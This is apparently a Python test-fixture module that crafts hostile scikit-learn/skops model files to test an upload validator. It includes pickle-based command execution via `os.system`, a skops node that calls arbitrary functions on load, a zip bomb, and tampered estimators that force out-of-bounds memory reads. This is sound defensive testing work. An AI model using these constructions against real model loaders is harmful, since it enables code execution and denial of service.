"""Model files an attacker would upload, built the way an attacker would build them."""

from __future__ import annotations

import ctypes
import io
import json
import os
import zipfile
from pathlib import Path
from typing import Any

import numpy as np
import skops.io
from scipy import sparse
from sklearn.base import BaseEstimator, ClassifierMixin
from sklearn.datasets import load_iris
from sklearn.ensemble import (
    GradientBoostingRegressor,
    HistGradientBoostingClassifier,
    RandomForestClassifier,
    StackingClassifier,
)
from sklearn.linear_model import LogisticRegression
from sklearn.naive_bayes import GaussianNB
from sklearn.neighbors import KNeighborsClassifier
from sklearn.pipeline import Pipeline
from sklearn.preprocessing import StandardScaler
from sklearn.svm import SVC
from sklearn.tree import DecisionTreeClassifier

from shared.model_files import dump_model


class _RunsCommand:
    """Pickles to `os.system(command)`: what an object array in a hostile .npy holds."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[Any, tuple[str]]:
        return (os.system, (self.command,))


def _json_node(value: object, node_id: int) -> dict[str, Any]:
    return {
        "__class__": type(value).__name__,
        "__module__": "builtins",
        "__loader__": "JsonNode",
        "content": json.dumps(value),
        "is_json": True,
        "__id__": node_id,
    }


def _construct_node(module: str, name: str, args: list[Any], node_id: int) -> dict[str, Any]:
    """A node whose loading calls module.name(*args) (skops' constructor-from-reduce)."""
    return {
        "__class__": name,
        "__module__": module,
        "__loader__": "ConstructorFromReduceNode",
        "__id__": node_id,
        "content": {
            "__class__": "tuple",
            "__module__": "builtins",
            "__loader__": "TupleNode",
            "__id__": node_id + 1,
            "content": args,
        },
    }


def _zip(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def _schema_of(data: bytes) -> dict[str, Any]:
    schema: dict[str, Any] = json.loads(_members_of(data)["schema.json"])
    return schema


def call_on_load(module: str, name: str, *args: str) -> bytes:
    """A file whose loading calls module.name(*args)."""
    arguments = [_json_node(arg, 10 + 2 * index) for index, arg in enumerate(args)]
    schema = _construct_node(module, name, arguments, 2) | {"protocol": 2}
    return _zip({"schema.json": json.dumps(schema).encode()})


def npz_unpickling_attack(folder: Path, marker: Path) -> bytes:
    """numpy's NpzFile(path, own_fid=False, allow_pickle=True), read through its BagObj.

    The zip at `path` stands for an earlier upload kept on disk, with a member holding a
    pickled object array. A Pipeline (a trusted estimator) whose steps are the NpzFile and
    a BagObj over it makes scikit-learn's tag lookup read that member, which unpickles it
    and runs `touch marker`.
    """
    stash = folder / "earlier-upload.zip"
    array = io.BytesIO()
    np.save(array, np.array([_RunsCommand(f"touch {marker}")], dtype=object), allow_pickle=True)
    stash.write_bytes(_zip({"__sklearn_tags__.npy": array.getvalue()}))
    npz = _construct_node(
        "numpy.lib._npyio_impl",
        "NpzFile",
        [_json_node(str(stash), 9011), _json_node(False, 9012), _json_node(True, 9013)],
        9000,
    )
    bag = _construct_node("numpy.lib._npyio_impl", "BagObj", [npz], 9100)
    schema = _schema_of(
        skops.io.dumps(Pipeline([("a", StandardScaler()), ("b", LogisticRegression())]))
    )
    steps = schema["content"]["content"]["steps"]["content"]
    steps[0]["content"][1] = npz
    steps[1]["content"][1] = bag
    return _zip({"schema.json": json.dumps(schema).encode()})


def with_extra_member(data: bytes, name: str = "payload.npy", content: bytes = b"x") -> bytes:
    """A genuine model file plus a zip member its schema never references."""
    buffer = io.BytesIO(data)
    with zipfile.ZipFile(buffer, "a") as archive:
        archive.writestr(name, content)
    return buffer.getvalue()


def zip_bomb(data: bytes, unpacked_bytes: int) -> bytes:
    """A genuine model file whose array member is replaced by `unpacked_bytes` of zeros."""
    source = zipfile.ZipFile(io.BytesIO(data))
    victim = next(name for name in source.namelist() if name.endswith(".npy"))
    buffer = io.BytesIO()
    with source, zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as bomb:
        for info in source.infolist():
            if info.filename != victim:
                bomb.writestr(info.filename, source.read(info.filename))
        with bomb.open(victim, "w", force_zip64=True) as member:
            chunk = bytes(1024 * 1024)
            for _ in range(unpacked_bytes // len(chunk)):
                member.write(chunk)
    return buffer.getvalue()


def tree_with_child_outside() -> bytes:
    """A fitted decision tree whose root points at a child far past the node array.

    scikit-learn follows the index unchecked: predicting with it reads wild memory.
    """
    features, target = load_iris(return_X_y=True)
    model = DecisionTreeClassifier(max_depth=2, random_state=0).fit(features, target)
    state = model.tree_.__getstate__()
    nodes = state["nodes"].copy()
    nodes["left_child"][0] = 10**9
    model.tree_.__setstate__(state | {"nodes": nodes})
    return dump_model(model)


def svc_with_overstated_support_count() -> bytes:
    """An iris SVC (species labels) whose per-class support counts run past its vectors.

    The counts still sum to the number of support vectors, which is all scikit-learn
    checks; libsvm walks its arrays by them and reads far out of bounds on predict.
    """
    iris = load_iris()
    labels = [str(iris.target_names[index]) for index in iris.target]
    model = SVC().fit(iris.data, labels)
    total = len(model.support_vectors_)
    members = _members_of(dump_model(model))
    schema = json.loads(members["schema.json"])
    counts = np.array([10**8, total - 10**8 - 1, 1], dtype=np.int32)
    array = io.BytesIO()
    np.save(array, counts, allow_pickle=False)
    members[schema["content"]["content"]["_n_support"]["file"]] = array.getvalue()
    return _zip(members)


def _members_of(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


class CrashingClassifier(ClassifierMixin, BaseEstimator):  # type: ignore[misc]
    """Stands for any model whose compiled predict code a file can send astray."""

    def fit(self, features: np.ndarray, target: list[str]) -> CrashingClassifier:
        self.classes_ = np.array(sorted(set(target)), dtype=object)
        self.n_features_in_ = features.shape[1]
        return self

    crash_from_rows: int = 0
    """Crash for batches of at least this many rows (0: always)."""

    def predict(self, features: np.ndarray) -> np.ndarray:
        if len(features) >= self.crash_from_rows:
            ctypes.string_at(0)  # reads address 0: the process gets SIGSEGV
        return np.asarray(self.classes_[np.zeros(len(features), dtype=int)])


CRASHING_CLASSIFIER = f"{CrashingClassifier.__module__}.CrashingClassifier"


class MisreportingClassifier(ClassifierMixin, BaseEstimator):  # type: ignore[misc]
    """Predicts without crashing, but its answers are not what a classifier may say."""

    def fit(self, features: np.ndarray, target: list[str]) -> MisreportingClassifier:
        self.classes_ = np.array(sorted(set(target)), dtype=object)
        self.n_features_in_ = features.shape[1]
        return self

    lie: str = "label"
    """"label": a label outside classes_; "count": fewer predictions than rows;
    "probability": probabilities above 1."""

    def predict(self, features: np.ndarray) -> np.ndarray:
        if self.lie == "label":
            return np.array(["daisy"] * len(features), dtype=object)
        rows = len(features) // 2 if self.lie == "count" else len(features)
        return np.asarray(self.classes_[np.zeros(rows, dtype=int)])

    def predict_proba(self, features: np.ndarray) -> np.ndarray:
        return np.full((len(features), len(self.classes_)), 2.0)


MISREPORTING_CLASSIFIER = f"{MisreportingClassifier.__module__}.MisreportingClassifier"


def misreporting_classifier(lie: str) -> bytes:
    """An iris-shaped classifier that predicts in the way `lie` names (trusted only by name)."""
    iris = load_iris()
    labels = [str(iris.target_names[index]) for index in iris.target]
    model = MisreportingClassifier().fit(iris.data, labels)
    model.lie = lie
    return dump_model(model)


def crashing_classifier(crash_from_rows: int = 0) -> bytes:
    """An iris-shaped classifier that segfaults when it predicts (trusted only by name)."""
    iris = load_iris()
    labels = [str(iris.target_names[index]) for index in iris.target]
    model = CrashingClassifier().fit(iris.data, labels)
    model.crash_from_rows = crash_from_rows
    return dump_model(model)


def _iris_fit(model: Any) -> Any:
    features, target = load_iris(return_X_y=True)
    return model.fit(features, target)


def sparse_coefficients_outside_their_shape() -> bytes:
    """Logistic regression whose sparse coefficients name a column far past the input.

    The sparse node is labelled `scipy.sparse._matrix.spmatrix`, a name skops trusts and
    only audits (it builds the matrix from the member's own format field).
    """
    model = _iris_fit(LogisticRegression(max_iter=500))
    model.coef_ = sparse.csr_matrix(
        (np.ones(2), np.array([0, 10**6]), np.array([0, 2, 2, 2])), shape=(3, 4)
    )
    members = _members_of(dump_model(model))
    schema = json.loads(members["schema.json"])
    schema["content"]["content"]["coef_"] |= {
        "__class__": "spmatrix",
        "__module__": "scipy.sparse._matrix",
    }
    members["schema.json"] = json.dumps(schema).encode()
    return _zip(members)


def forest_tree_without_width() -> bytes:
    """A forest whose inner tree no longer says how many features it reads."""
    model = _iris_fit(RandomForestClassifier(n_estimators=2, max_depth=2, random_state=0))
    del model.estimators_[0].n_features_in_
    return dump_model(model)


def boosting_with_extra_tree_columns() -> bytes:
    """Gradient boosting with four trees per iteration where its loss expects one."""
    features, _ = load_iris(return_X_y=True)
    model = GradientBoostingRegressor(n_estimators=2, max_depth=1, random_state=0)
    model.fit(features, features[:, 0])
    model.estimators_ = np.tile(model.estimators_, (1, 4))
    return dump_model(model)


def histogram_boosting_without_width() -> bytes:
    """Histogram boosting that no longer says how many features it reads."""
    model = _iris_fit(HistGradientBoostingClassifier(max_iter=2, random_state=0))
    del model.n_features_in_
    return dump_model(model)


def mahalanobis_matrix_smaller_than_the_data() -> bytes:
    """A ball tree whose Mahalanobis metric holds a 1x1 matrix for 4 features."""
    model = _iris_fit(
        KNeighborsClassifier(
            algorithm="ball_tree", metric="mahalanobis", metric_params={"VI": np.eye(4)}
        )
    )
    metric = model._tree.__getstate__()[11]
    power, vector, _matrix = metric.__getstate__()[:3]
    metric.__setstate__((power, vector, np.eye(1)))
    return dump_model(model)


def kd_tree_without_leaves() -> bytes:
    """A KD tree whose every node claims to be inner: queries walk past its node array."""
    model = _iris_fit(KNeighborsClassifier(algorithm="kd_tree", leaf_size=40))
    state = list(model._tree.__getstate__())
    node_data = state[2].copy()
    node_data["is_leaf"] = 0
    model._tree.__setstate__((*state[:2], node_data, *state[3:]))
    return dump_model(model)


def with_bytes_attribute(data: bytes, content: bytes) -> bytes:
    """A genuine model file plus an attribute holding raw bytes (any payload at all)."""
    members = _members_of(data)
    schema = json.loads(members["schema.json"])
    schema["content"]["content"]["notes_"] = {
        "__class__": "bytes",
        "__module__": "builtins",
        "__loader__": "BytesNode",
        "file": "notes.bin",
        "__id__": 5550001,
    }
    members["schema.json"] = json.dumps(schema).encode()
    members["notes.bin"] = content
    return _zip(members)


def sparse_matrix_with_a_hidden_member() -> bytes:
    """A sparse coefficient member whose own zip carries one more member than scipy writes."""
    model = _iris_fit(LogisticRegression(max_iter=500))
    model.coef_ = sparse.csr_matrix(model.coef_)
    members = _members_of(dump_model(model))
    schema = json.loads(members["schema.json"])
    name = schema["content"]["content"]["coef_"]["file"]
    inner = io.BytesIO(members[name])
    with zipfile.ZipFile(inner, "a") as archive:
        archive.writestr("hidden.npy", b"payload")
    members[name] = inner.getvalue()
    return _zip(members)


def neighbours_label_outside_classes() -> bytes:
    """A neighbours classifier one of whose points votes for a class it does not have."""
    model = _iris_fit(KNeighborsClassifier(algorithm="brute", metric="manhattan"))
    model._y[0] = len(model.classes_)
    return dump_model(model)


def stacking_calling_another_method() -> bytes:
    """A stacking classifier told to call a method of its estimators that is not a predict."""
    model = _iris_fit(
        StackingClassifier([("lr", LogisticRegression(max_iter=500)), ("nb", GaussianNB())])
    )
    model.stack_method_ = ["predict_proba", "fit"]
    return dump_model(model)
